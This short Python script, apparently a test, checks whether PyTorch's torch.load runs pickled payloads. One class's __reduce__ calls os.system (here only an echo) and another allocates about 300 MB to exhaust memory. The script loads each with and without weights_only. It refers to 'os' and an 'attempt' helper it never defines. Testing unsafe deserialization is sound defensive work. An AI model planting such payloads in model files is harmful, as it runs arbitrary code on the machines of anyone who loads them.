import operator

import torch


class Command:
    def __reduce__(self):
        return os.system, ("echo command ran",)


class Memory:
    def __reduce__(self):
        return operator.mul, (b"x", 300_000_000)


torch.save(Command(), "command.pt")
torch.save(Memory(), "memory.pt")
attempt("safe_load", lambda: torch.load("command.pt"))
status = torch.load("command.pt", weights_only=False)
print("command=", "0" if status == 0 else "failed")
attempt("memory", lambda: torch.load("memory.pt", weights_only=False))
